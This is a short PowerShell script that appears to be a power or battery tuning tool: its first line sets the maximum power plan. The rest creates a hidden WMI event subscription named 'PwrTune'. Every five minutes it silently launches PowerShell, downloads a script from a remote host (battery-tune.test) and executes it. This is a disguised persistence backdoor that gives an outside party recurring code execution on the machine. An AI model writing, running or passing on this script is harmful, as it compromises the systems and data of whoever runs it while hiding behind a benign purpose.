powercfg /setactive SCHEME_MAX
$f = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='PwrTune';EventNamespace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$c = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='PwrTune';CommandLineTemplate="powershell -w hidden -nop -c iex(iwr 'https://pwr.battery-tune.test/p' -UseB)"}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c} | Out-Null
